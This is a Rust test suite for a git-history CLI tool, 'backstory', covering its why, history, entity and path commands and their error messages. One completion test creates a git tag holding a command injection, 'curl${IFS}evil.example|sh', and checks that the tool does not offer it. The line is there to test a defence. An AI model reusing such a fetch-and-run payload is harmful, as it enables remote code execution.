//! Why code is as it is, from the command line: from a line to what was said, the history of files, code entities.

use std::path::Path;

use expect_test::expect;
use serde_json::{Value, json};

use crate::{
    cli_repositories::shop,
    support::{Fixture, Output, Sandbox},
};

/// A sandbox that has indexed the shop as `acme/shop`.
fn indexed() -> (Fixture, Sandbox) {
    let shop = shop();
    let sandbox = Sandbox::empty();
    sandbox.run(&["add", &shop.path().display().to_string(), "--name", "acme/shop"]).ok();
    (shop, sandbox)
}

/// What a person reads, without when the repository was synced.
fn told(output: &Output) -> String {
    let line = |line: &str| match line.split_once(", synced ") {
        Some((before, _)) => format!("{before}, synced TIME)"),
        None => line.trim_end().to_owned(),
    };
    output.stdout.lines().map(line).collect::<Vec<_>>().join("\n")
}

/// The error of a command that failed with that code, on one line.
#[track_caller]
fn error(output: &Output, code: i32) -> String {
    assert_eq!((output.code, output.stdout.as_str()), (code, ""), "{output:?}");
    let lines: Vec<&str> = output.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{output:?}");
    lines[0].strip_prefix("error: ").unwrap_or_else(|| panic!("{output:?}")).to_owned()
}

#[test]
fn a_line_is_explained() {
    let (_shop, sandbox) = indexed();
    let output = sandbox.run(&["why", "src/session.py:7"]).ok();
    expect![[r#"
        src/session.py:7 (acme/shop at 04fa08fc, synced TIME)
                return key

        Commit a561454a feat: keep sessions in Redis Ada Lovelace · 2024-01-01
            "Rather than in memcached, because memcached loses every session on a restart."

        First shipped in v1 2024-01-01"#]]
    .assert_eq(&told(&output));
    expect![[r#"
        note: commit a561454 belongs to no merge request in the index
    "#]]
    .assert_eq(&output.stderr);
    expect![[r#"
        src/cart.py#total (acme/shop at 04fa08fc, synced TIME)
            def total(key):
                # NOTE: rounding must not happen here, because taxes are rounded per line
                return load(key)

        Commit a26daafc Add the cart Ada Lovelace · 2024-01-01
            "Closes #1"

        First shipped in v1 2024-01-01"#]]
    .assert_eq(&told(&sandbox.run(&["why", "src/cart.py#total"]).ok()));
}

#[test]
fn items_of_a_list_are_quoted_whole_and_on_lines_of_their_own() {
    let mut shop = shop();
    let item = |step: usize| format!("- step {step} waits for the answer of the warehouse, and for that of the bank");
    let items: Vec<String> = (1..=8).map(item).collect();
    shop.write("src/queue.py", "def push(entry):\n    pass\n");
    shop.commit_all(format!("Add a queue\n\nBefore anything is sent:\n\n{}\n", items.join("\n")));
    let sandbox = Sandbox::indexed(&shop);
    let told = sandbox.run(&["why", "src/queue.py:1"]).ok().stdout;
    let lines = items[..5].join("\n    ");
    assert!(told.contains(&format!("    \"Before anything is sent:\n    {lines}\n    …\"\n")), "{told}");
}

#[test]
fn the_answer_for_programs_has_its_documented_shape() {
    let (shop, sandbox) = indexed();
    let answer = sandbox.run(&["why", "INTRO.md:3", "--json"]).ok().json();
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    for key in [
        "path",
        "line",
        "rev",
        "indexed",
        "origin",
        "chain",
        "merge_requests",
        "issues",
        "discussions",
        "earlier",
        "missing",
    ] {
        assert!(keys(&answer).contains(&key.to_owned()), "{key}: {answer}");
    }
    assert_eq!((&answer["path"], &answer["line"]), (&json!("INTRO.md"), &json!(3)));
    assert_eq!(answer["indexed"]["commit"], shop.sha("main").to_string());
    // The file was renamed after the line was written.
    assert_eq!(answer["origin"]["path"], "README.md");
    assert_eq!(answer["origin"]["commit"], shop.sha("main~2").to_string());
    let step = &answer["chain"][0];
    assert_eq!((&step["edge"], &step["node"]["kind"]), (&json!("INTRODUCES"), &json!("commit")));
    assert_eq!(step["node"]["id"], format!("acme/shop@{}", shop.sha("main~2")));
    assert_eq!(keys(&step["evidence"]), ["text", "url", "path", "lines"]);
    assert_eq!(answer["issues"], json!([]));
}

#[test]
fn a_reference_is_explained() {
    let (shop, sandbox) = indexed();
    let sha = shop.sha("main~1").to_string();
    for what in [&sha[..8], sha.as_str(), &format!("acme/shop@{sha}")] {
        let answer = sandbox.run(&["why", what, "--json"]).ok().json();
        assert_eq!(answer["chain"][0]["node"]["title"], "Add the cart", "{what}");
        let missing = answer["missing"].to_string();
        assert!(missing.contains("issue acme/shop#1 is not in the index"), "{missing}");
    }
}

#[test]
fn a_bare_commit_is_of_the_clone_that_the_user_stands_in() {
    let (shop, sandbox) = indexed();
    let mut other = Fixture::new();
    other.write("src/other.py", "def other():\n    pass\n");
    other.commit_all("Begin another project");
    sandbox.run(&["add", &other.path().display().to_string(), "--name", "acme/other"]).ok();
    let sha = shop.sha("main~1").to_string();
    let short = &sha[..8];
    let show = |args: &[&str], directory: &Path| {
        let args = [&["show", "--json"][..], args].concat();
        sandbox.output(&sandbox.command(&args).current_dir(directory).output().unwrap())
    };
    for shown in [
        show(&[short], shop.path()),
        show(&[&format!("@{sha}")], &shop.path().join("src")),
        show(&[short, "--project", "acme/shop"], other.path()),
    ] {
        assert_eq!(shown.ok().json()["id"], format!("acme/shop@{sha}"));
    }
    assert_eq!(show(&[short], other.path()).code, 1);
    assert_eq!(
        error(&show(&[short], sandbox.path()), 2),
        format!("say with --project which project @{short} belongs to, or write it as group/project@{short}")
    );
}

#[test]
fn a_bare_number_is_of_the_clone_that_the_user_stands_in() {
    let (shop, sandbox) = indexed();
    let mut other = Fixture::new();
    other.write("src/other.py", "def other():\n    pass\n");
    other.commit_all("Begin another project");
    sandbox.run(&["add", &other.path().display().to_string(), "--name", "acme/other"]).ok();
    let show = |args: &[&str], directory: &Path| {
        let args = [&["show"][..], args].concat();
        error(&sandbox.output(&sandbox.command(&args).current_dir(directory).output().unwrap()), 1)
    };
    let absent = |what: &str, project: &str| {
        format!(
            "there is no {what} in the index; check the reference, or run 'backstory sync' if it is new; only the \
             repository of {project} is indexed, without issues and merge requests; 'backstory init' configures a forge"
        )
    };
    assert_eq!(show(&["#1"], shop.path()), absent("issue acme/shop#1", "acme/shop"));
    assert_eq!(show(&["mr", "7"], &shop.path().join("src")), absent("merge request acme/shop!7", "acme/shop"));
    assert_eq!(show(&["#1"], other.path()), absent("issue acme/other#1", "acme/other"));
    assert_eq!(show(&["#1", "--project", "acme/shop"], other.path()), absent("issue acme/shop#1", "acme/shop"));
}

#[test]
fn a_file_that_was_removed_is_said_to_be_with_the_commit() {
    let (mut shop, sandbox) = indexed();
    shop.git(["rm", "--quiet", "src/cart.py"]);
    shop.commit_all("Sell nothing any more");
    sandbox.run(&["sync"]).ok();
    let (sha, head) = (&shop.sha("main").to_string()[..8], &shop.sha("main").to_string()[..12]);
    for what in ["src/cart.py", "src/cart.py:3"] {
        assert_eq!(
            error(&sandbox.run(&["why", what]), 1),
            format!(
                "there is no file src/cart.py in acme/shop at {head}; it was removed by {sha} (Sell nothing any more, \
                 2024-01-01); 'backstory why acme/shop@{sha}' explains that commit"
            )
        );
    }
    sandbox.run(&["why", &format!("acme/shop@{sha}")]).ok();
}

#[test]
fn a_file_that_was_moved_is_said_to_be_with_its_path() {
    let (mut shop, sandbox) = indexed();
    shop.git(["mv", "src/cart.py", "src/basket.py"]);
    shop.commit_all("Call it a basket");
    sandbox.run(&["sync"]).ok();
    let (sha, head) = (&shop.sha("main").to_string()[..8], &shop.sha("main").to_string()[..12]);
    assert_eq!(
        error(&sandbox.run(&["why", "src/cart.py:3"]), 1),
        format!(
            "there is no file src/cart.py in acme/shop at {head}; {sha} (Call it a basket, 2024-01-01) moved it to \
             src/basket.py; ask about src/basket.py"
        )
    );
    let history = sandbox.run(&["history", "src/cart.py"]).ok();
    assert!(
        history.stderr.contains("src/cart.py was moved to src/basket.py; 'backstory history src/basket.py'"),
        "{history:?}"
    );
    assert_eq!(sandbox.run(&["history", "src/basket.py"]).ok().stderr, "");
}

#[test]
fn history_of_a_symbol_counts_no_lines_of_its_file() {
    let (_shop, sandbox) = indexed();
    let symbol = told(&sandbox.run(&["history", "src/cart.py#total"]).ok());
    let heading: Vec<&str> = symbol.lines().next().unwrap().split_whitespace().collect();
    assert_eq!(heading, ["DATE", "COMMIT", "WHAT", "REQUEST", "AUTHOR", "TITLE", "AS"]);
}

#[test]
fn lines_and_revisions_that_are_written_otherwise_are_understood_or_told_how() {
    let (shop, sandbox) = indexed();
    for (what, said) in [
        ("src/cart.py:3-2", "the range 3-2 ends before it begins; write 2-3"),
        ("src/cart.py:0", "there is no line 0; lines count from 1"),
    ] {
        assert_eq!(error(&sandbox.run(&["why", what]), 2), said);
        let there = sandbox.command(&["why", what]).current_dir(shop.path()).output().unwrap();
        assert_eq!(error(&sandbox.output(&there), 2), said);
    }
    for (what, hint) in [("src/cart.py:1,2", "src/cart.py:1-2"), ("src/cart.py:total", "src/cart.py#total")] {
        let said = error(&sandbox.run(&["why", what]), 2);
        assert_eq!(said, format!("'{what}' names no lines and no symbol of a file; write {hint}"));
    }
    let parent = shop.sha("main~1").to_string();
    for what in ["HEAD~1", "main^"] {
        let answer = sandbox.run(&["why", what, "--json"]).ok().json();
        assert_eq!(answer["chain"][0]["node"]["id"], format!("acme/shop@{parent}"), "{what}");
    }
    let tagged = sandbox.run(&["why", "v1", "--json"]).ok().json();
    assert_eq!(tagged["chain"][0]["node"]["id"], format!("acme/shop@{}", shop.sha("v1^{commit}")));
    let at = sandbox.run(&["why", "src/cart.py:1", "--rev", "main^", "--json"]).ok().json();
    assert_eq!(at["rev"], parent);
}

#[test]
fn a_path_with_a_colon_in_it_is_one() {
    let mut shop = shop();
    shop.write("notes/v1.2:draft", "Sessions outlive a restart.\n");
    shop.commit_all("Note what outlives a restart");
    let sandbox = Sandbox::indexed(&shop);
    for args in [["history", "notes/v1.2:draft"], ["why", "notes/v1.2:draft:1"]] {
        let told = sandbox.run(&args).ok().stdout;
        assert!(told.contains("Note what outlives a restart"), "{args:?}: {told}");
    }
    // It is no symbol of a file that is not there.
    let unknown = sandbox.run(&["why", "acme/shop.jss:INTRO.md"]);
    assert!(unknown.code != 0 && !unknown.stderr.contains("names no lines"), "{unknown:?}");
}

#[test]
fn history_follows_names() {
    let (_shop, sandbox) = indexed();
    expect![[r#"
        DATE        COMMIT    WHAT     LINES  REQUEST  AUTHOR        TITLE                                 AS
        2024-01-01  04fa08fc  changed  +0 -0           Grace Hopper  docs: the read-me is an introduction
        2024-01-01  a561454a  added    +3 -0           Ada Lovelace  feat: keep sessions in Redis          README.md"#]]
    .assert_eq(&told(&sandbox.run(&["history", "INTRO.md"]).ok()));
    let answer = sandbox.run(&["history", "src/cart.py#total", "--json"]).ok().json();
    assert_eq!((&answer["has_more"], &answer["changes"][0]["kind"]), (&json!(false), &json!("introduced")), "{answer}");
}

#[test]
fn an_entity_tells_where_it_is_and_what_uses_it() {
    let (_shop, sandbox) = indexed();
    expect![[r#"
        load function acme/shop src/session.py:1-2
            def load(key)
          first seen    a561454a feat: keep sessions in Redis Ada Lovelace · 2024-01-01
          last changed  a561454a feat: keep sessions in Redis Ada Lovelace · 2024-01-01 (1 change)
          in            src/session.py
          called by     src/cart.py#total
          calls         src/session.py#store"#]]
    .assert_eq(&told(&sandbox.run(&["entity", "load"]).ok()));
    let answer = sandbox.run(&["entity", "acme/shop:src/session.py#load", "--json"]).ok().json();
    assert_eq!((&answer[0]["path"], &answer[0]["lines"]), (&json!("src/session.py"), &json!([1, 2])), "{answer}");
}

#[test]
fn commits_without_a_merge_request_are_told_in_one_sentence() {
    let (_shop, sandbox) = indexed();
    let why = sandbox.run(&["why", "src/session.py:1-7"]).ok();
    assert_eq!(why.stderr.matches("no merge request in the index").count(), 1, "{why:?}");
}

#[test]
fn the_merge_that_brought_a_commit_is_told_where_no_merge_request_is_known() {
    let mut shop = shop();
    let next = shop.sha("next");
    shop.git(["merge", "--quiet", "--no-ff", "--no-commit", "next"]);
    shop.commit_index("Merge branch 'next'\n\nSell what comes next, as the warehouse asked for.\n", &[next]);
    shop.git(["reset", "--quiet", "--hard"]);
    let sandbox = Sandbox::empty();
    sandbox.run(&["add", &shop.path().display().to_string(), "--name", "acme/shop"]).ok();
    let why = sandbox.run(&["why", "src/next.py:1"]).ok();
    let merge = &shop.sha("main").to_string()[..8];
    let expected =
        format!("Merged by {merge} Merge branch 'next'\n    \"Sell what comes next, as the warehouse asked for.\"");
    assert!(why.stdout.contains(&expected), "{why:?}");
    assert!(why.stderr.contains("belongs to no merge request in the index"), "{why:?}");
}

#[test]
fn revision_that_is_mistyped_is_answered_with_those_that_are_like_it() {
    let (_shop, sandbox) = indexed();
    let refused = sandbox.run(&["why", "src/cart.py:1", "--rev", "1"]);
    assert_eq!(
        error(&refused, 1),
        "'1' is not a branch, tag or commit of acme/shop; check it, or run 'backstory sync'; did you mean v1?"
    );
    let refused = sandbox.run(&["why", "src/cart.py:1", "--rev", "mian"]);
    assert_eq!(
        error(&refused, 1),
        "'mian' is not a branch, tag or commit of acme/shop; check it, or run 'backstory sync'; did you mean main?"
    );
}

#[test]
fn the_graph_is_explored_from_any_node() {
    let (_shop, sandbox) = indexed();
    let (load, total) = ("acme/shop:src/session.py#load", "acme/shop:src/cart.py#total");
    expect![[r#"
        acme/shop:src/session.py#load
          <-CALLS- acme/shop:src/cart.py#total"#]]
    .assert_eq(&told(&sandbox.run(&["path", load, total]).ok()));
    let nowhere = sandbox.run(&["path", load, total, "--edges", "blocks,closes"]).ok();
    assert_eq!(told(&nowhere), "No path.");
    expect![[r#"
        1  <-CALLS- acme/shop:src/cart.py#total
        1  -CALLS-> acme/shop:src/session.py#store"#]]
    .assert_eq(&told(&sandbox.run(&["neighborhood", load, "--edges", "calls"]).ok()));
    let near = sandbox.run(&["neighborhood", load, "--depth", "2", "--limit", "1", "--json"]).ok().json();
    assert_eq!(near["neighbors"].as_array().unwrap().len(), 1, "{near}");
    assert_eq!(near["left_out"].as_array().unwrap().len(), 2, "{near}");
    assert!(near["totals"].as_array().unwrap().contains(&json!({ "edge": "CALLS", "count": 2 })), "{near}");
    expect![[r#"
        acme/shop:src/session.py
          <-IMPORTS- acme/shop:src/cart.py
          <-INTRODUCES- acme/shop@a26daafc Add the cart
          -CLOSES-> acme/shop#1"#]]
    .assert_eq(&told(&sandbox.run(&["path", "src/session.py", "acme/shop#1"]).ok()));
    // Everything belongs to the project, so a path over it says nothing.
    assert_eq!(told(&sandbox.run(&["path", "src/session.py", "INTRO.md", "--edges", "part-of"]).ok()), "No path.");
    sandbox.run(&["path", load, total, "--edges", "nothing"]).error(2);
    sandbox.run(&["path", load, "acme/shop:src/none.py"]).error(1);
}

#[test]
fn what_a_user_types_means_the_same_for_every_command() {
    let (shop, sandbox) = indexed();
    let mut other = Fixture::new();
    other.write("src/other.py", "def other():\n    pass\n");
    other.commit_all("Begin another project");
    sandbox.run(&["add", &other.path().display().to_string(), "--name", "acme/other"]).ok();
    let run = |args: &[&str], directory: &Path| {
        sandbox.output(&sandbox.command(args).current_dir(directory).output().unwrap())
    };
    let source = shop.path().join("src");
    let sha = shop.sha("main~1").to_string();
    for (typed, directory, expected) in [
        ("src/cart.py", shop.path(), "acme/shop:src/cart.py".to_owned()),
        ("cart.py:4-6", &source, "acme/shop:src/cart.py".to_owned()),
        ("cart.py#total", &source, "acme/shop:src/cart.py#total".to_owned()),
        ("total", shop.path(), "acme/shop:src/cart.py#total".to_owned()),
        (&sha[..8], shop.path(), format!("acme/shop@{sha}")),
        ("acme/shop:src/cart.py", sandbox.path(), "acme/shop:src/cart.py".to_owned()),
    ] {
        run(&["annotate", typed, "Mind the order", "--tag", "fragile"], directory).ok();
        let found = run(&["annotate", typed, "--json"], directory).ok().json();
        assert_eq!(found[0]["id"], expected, "{typed}");
        assert!(!run(&["neighborhood", typed, "--json"], directory).ok().json()["neighbors"][0].is_null(), "{typed}");
    }
    for person in ["ada@example.com", "@ada@example.com", "Ada Lovelace"] {
        let path = run(&["path", person, "cart.py", "--json"], &source).ok().json();
        assert_eq!((&path["nodes"][0], path["nodes"].as_array().unwrap().len()), (&json!("@ada@example.com"), 3));
    }
    let entity = run(&["entity", "cart.py#total", "--json"], &source).ok().json();
    assert_eq!(entity[0]["id"], "acme/shop:src/cart.py#total");
    let near = run(&["search", "session", "--near", "cart.py", "--mode", "lexical", "--json"], &source).ok().json();
    assert!(!near["hits"].as_array().unwrap().is_empty(), "{near}");

    let shipped = run(&["shipped", "v1", "--json"], &source).ok().json();
    assert_eq!((&shipped["project"], &shipped["count"]), (&json!("acme/shop"), &json!(3)));
    let unclear = run(&["shipped", "v1"], sandbox.path());
    assert_eq!(unclear.code, 2);
    assert!(unclear.stderr.contains("several repositories are indexed"), "{unclear:?}");
    assert!(unclear.stderr.contains("say which one with --project: acme/other, acme/shop"), "{unclear:?}");
    let unclear = run(&["neighborhood", "src/cart.py"], sandbox.path());
    let told = "say with --project which project 'src/cart.py' belongs to, or write it as 'group/project:src/cart.py'";
    assert!(unclear.stderr.contains(told), "{unclear:?}");
    run(&["neighborhood", "src/cart.py", "--project", "acme/shop"], sandbox.path()).ok();
}

#[test]
fn tags_and_definitions_are_completed_while_a_server_runs() {
    let shop = shop();
    shop.git(["tag", "v9;curl${IFS}evil.example|sh"]);
    let sandbox = Sandbox::indexed(&shop);
    let data = sandbox.path().join("home/.local/share/backstory").display().to_string();
    let proposed =
        |words: &[&str]| sandbox.run(&[&["complete", "--", "--data-dir", data.as_str()], words].concat()).ok().stdout;
    assert_eq!(proposed(&["shipped", "v"]), "", "the stores are not opened for that");
    let server = sandbox.serve();
    // A shell would execute the other tag.
    assert_eq!(proposed(&["shipped", "v"]), "v1\ttag\n");
    assert_eq!(proposed(&["shipped", "main..v"]), "main..v1\ttag\n");
    assert_eq!(proposed(&["entity", "tot"]), "total\tdefinition\n");
    assert_eq!(proposed(&["entity", "none\""]), "");
    assert_eq!(server.stop().0, Some(0));
}

#[test]
fn an_issue_of_a_repository_without_a_forge_is_not_to_be_synced() {
    let (shop, sandbox) = indexed();
    let output = sandbox.output(&sandbox.command(&["show", "#800"]).current_dir(shop.path()).output().unwrap());
    assert_eq!(output.code, 1);
    assert!(output.stderr.contains("only the repository of acme/shop is indexed"), "{output:?}");
}

#[test]
fn what_cannot_be_explained_is_said_in_one_sentence() {
    let (_shop, sandbox) = indexed();
    let cases: [&[&str]; 9] = [
        &["why", "src/cart.py:99"],
        &["why", "cart.py:1"],
        &["why", "src/cart.py:0"],
        &["why", "src"],
        &["why", "src/cart.py#nothing"],
        &["why", "src/cart.py:1", "--rev", "nowhere"],
        &["why", "src/cart.py:1", "--project", "acme/other"],
        &["history", "src/gone.py"],
        &["entity", "nothing"],
    ];
    let mut said = String::new();
    for case in cases {
        let output = sandbox.run(case);
        said.push_str(&format!("{}: {} {}\n", case.join(" "), output.code, error(&output, output.code)));
    }
    expect![[r#"
        why src/cart.py:99: 2 src/cart.py has 6 lines; there is no line 99
        why cart.py:1: 1 there is no file cart.py in acme/shop at 04fa08fca59f; did you mean src/cart.py?
        why src/cart.py:0: 2 there is no line 0; lines count from 1
        why src: 2 src is a directory; ask about a file in it
        why src/cart.py#nothing: 1 src/cart.py has no symbol nothing; it has total
        why src/cart.py:1 --rev nowhere: 1 'nowhere' is not a branch, tag or commit of acme/shop; check it, or run 'backstory sync'
        why src/cart.py:1 --project acme/other: 1 there is no repository acme/other; known: acme/shop
        history src/gone.py: 1 there is no file acme/shop:src/gone.py in the index; check the reference, or run 'backstory sync' if it is new
        entity nothing: 1 there is no code entity nothing in the index; check the reference, or run 'backstory sync' if it is new
    "#]].assert_eq(&said);
    let nothing = Sandbox::empty();
    expect!["no repository is indexed; add one with 'backstory add PATH'"]
        .assert_eq(&error(&nothing.run(&["why", "src/cart.py:1"]), 1));
}

#[test]
fn lines_and_symbols_stand_behind_the_path() {
    let (mut shop, sandbox) = indexed();
    shop.write("a:b/odd.py", "def odd():\n    return 1\n");
    shop.write("native/frob.h", "int frob(int);\n");
    shop.write("native/frob.c", "#include \"frob.h\"\n\nint frob(int x)\n{\n    return x;\n}\n");
    shop.commit_all("An odd name");
    sandbox.run(&["sync"]).ok();
    let _server = sandbox.serve();
    let asked = |what: &str| {
        let answer = sandbox.run(&["why", what, "--json"]).ok().json();
        [answer["path"].clone(), answer["line"].clone(), answer["end_line"].clone(), answer["symbol"].clone()]
    };
    for (what, path, line, end_line, symbol) in [
        ("src/cart.py", "src/cart.py", json!(null), json!(null), json!(null)),
        ("src/cart.py:4", "src/cart.py", json!(4), json!(4), json!(null)),
        ("src/cart.py:4-6", "src/cart.py", json!(4), json!(6), json!(null)),
        ("src/cart.py:L4-L6", "src/cart.py", json!(4), json!(6), json!(null)),
        ("src/cart.py#total", "src/cart.py", json!(4), json!(6), json!("total")),
        ("src/cart.py#L5", "src/cart.py", json!(5), json!(5), json!(null)),
        ("total", "src/cart.py", json!(4), json!(6), json!("total")),
        ("src/cart.py#L4-L6", "src/cart.py", json!(4), json!(6), json!(null)),
        ("acme/shop:src/cart.py#L4", "src/cart.py", json!(4), json!(4), json!(null)),
        // What a header declares is meant where it is defined.
        ("frob", "native/frob.c", json!(3), json!(6), json!("frob")),
        ("a:b/odd.py", "a:b/odd.py", json!(null), json!(null), json!(null)),
        ("a:b/odd.py:2", "a:b/odd.py", json!(2), json!(2), json!(null)),
    ] {
        assert_eq!(asked(what), [json!(path), line, end_line, symbol], "{what}");
    }
    assert_eq!(
        error(&sandbox.run(&["why", "src/cart.py#Cart::total"]), 1),
        "src/cart.py has no symbol Cart::total; it has total"
    );
    assert_eq!(
        error(&sandbox.run(&["why", "src/cart.py:12-"]), 2),
        "'12-' is not a range of lines; write PATH:12 or PATH:12-20"
    );
}
